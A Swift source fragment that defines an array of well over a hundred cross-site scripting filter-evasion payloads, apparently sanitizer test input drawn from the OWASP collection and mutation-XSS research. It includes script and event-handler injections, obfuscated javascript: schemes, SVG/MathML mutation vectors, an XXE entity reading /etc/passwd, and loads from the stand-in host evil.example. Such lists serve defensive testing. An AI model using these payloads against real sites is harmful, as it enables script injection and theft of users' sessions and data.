/// Ways to make a browser run something, after the OWASP filter evasion collection and published mutation attacks.
let attacks: [String] = [
    // Elements that run.
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<script/src=data:,alert(1)>", "<scr<script>ipt>alert(1)",
    "<<script>alert(1);//<</script>", "<script\n>alert(1)</script\n>", "<script>a='</script><img src=x onerror=alert(1)>'",
    "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<base href=javascript:/a/>", "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<applet code=x>", "<isindex action=javascript:alert(1)>", "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<details open ontoggle=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>", "<body onload=alert(1)>", "<input onfocus=alert(1) autofocus>",
    "<button formaction=javascript:alert(1)>x</button>", "<form><button formaction=javascript:alert(1)>x",
    "<portal src=javascript:alert(1)>", "<x onclick=alert(1)>x</x>", "<a onmouseover=alert(1)>x", "<p onclick=alert(1) style='behavior:url(x)'>",
    // Event handlers on what is allowed.
    "<img src=x onerror=alert(1)>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>", "<img src=x:x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror\n=alert(1)>", "<img src='x'onerror=alert(1)>", "<img src=`x`onerror=alert(1)>", "<img src=x\u{0}onerror=alert(1)>",
    "<b onbeforescriptexecute=alert(1)>", "<a href=\"x\" onclick=\"alert(1)\"", "<img src='x' alt='\"><script>alert(1)</script>'>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>", "<a href='\"><img src=x onerror=alert(1)>'>x</a>", "<td background=javascript:alert(1)>",
    // Schemes.
    "<a href=javascript:alert(1)>x</a>", "<a href=JaVaScRiPt:alert(1)>x</a>", "<a href='&#106;&#97;vascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>", "<a href='java&#x0A;script:alert(1)'>x</a>", "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href=' \u{1}javascript:alert(1)'>x</a>", "<a href='javascript&colon;alert(1)'>x</a>", "<a href='javascript&#58alert(1)'>x</a>",
    "<a href='&#0000106&#0000097vascript:alert(1)'>x</a>", "<a href='java\u{0}script:alert(1)'>x</a>", "<a href='vbscript:x'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>", "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src=javascript:alert(1)>", "<img dynsrc=javascript:alert(1)>", "<img lowsrc=javascript:alert(1)>", "<img src=x srcset='javascript:alert(1) 1x'>",
    "<a href='//evil.example'>x</a>", "<a href='/\\evil.example'>x</a>", "<a href='\\\\evil.example'>x</a>", "<a href='/\t/evil.example'>x</a>",
    "<a href='http:javascript:alert(1)'>x</a>", "<a href='feed:javascript:alert(1)'>x</a>", "<a href='\u{85}javascript:alert(1)'>x</a>",
    "<a href='\u{2028}javascript:alert(1)'>x</a>", "<a href='view-source:javascript:1'>x</a>", "<a href='file:///etc/passwd'>x</a>",
    "<a href='j&Tab;avascript:alert(1)'>x</a>", "<a href=\"https://a\" href=\"javascript:alert(1)\">x</a>", "<a xlink:href=javascript:alert(1)>x</a>",
    // Style.
    "<style>@import '//evil.example'</style>", "<p style=\"background:url(javascript:alert(1))\">", "<style><img src=x onerror=alert(1)></style>",
    "<style/><img src=x onerror=alert(1)>", "<div style=\"width:expression(alert(1))\">x</div>", "<style><!--</style><script>alert(1)//--></script>",
    // Foreign markup and mutation.
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>", "<svg><animate onbegin=alert(1) attributeName=x>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>", "<svg><desc><p><img src=x onerror=alert(1)>", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math href=javascript:alert(1)>x</math>", "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>", "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<noembed><p title='</noembed><img src=x onerror=alert(1)>'>", "<noframes><p title='</noframes><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>", "<title><p title='</title><img src=x onerror=alert(1)>'>", "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<plaintext><img src=x onerror=alert(1)>", "<template><img src=x onerror=alert(1)></template>", "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x onerror=alert(1)>\">",
    "<p><svg><p><style><!--</style><img src=x onerror=alert(1)>-->", "<table><td><noscript><img title='</noscript><img src onerror=alert(1)>'>", "<form><form><p>x</form></form><img src=x onerror=alert(1)>",
    // Comments, declarations and unclosed tags.
    "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)>--!>", "<!-- --!><img src=x onerror=alert(1)> -->", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><p>&x;</p>", "<?xml-stylesheet href='javascript:alert(1)'?>", "<![CDATA[<script>alert(1)</script>]]>", "<!><img src=x onerror=alert(1)>",
    "</script><img src=x onerror=alert(1)>", "<img src=x onerror=alert(1)", "<img src=\"x", "<a href=\"javascript:alert(1)", "<p title=\"", "<", "</", "<!", "<!-", "<a <b>", "<a/b=\"c>", "<p =\"x\" onclick=alert(1)>",
    "<a\u{c}href=javascript:alert(1)>x", "<img\u{b}src=x onerror=alert(1)>", "<％script>alert(1)</script>", "\u{feff}<script>alert(1)</script>", "¼script¾alert(1)¼/script¾", "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;", "<a href='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>x</a>", "<code class='language-x\" onclick=alert(1)'>x</code>", "<ol start='1\" onclick=\"alert(1)'><li>x</ol>",
]
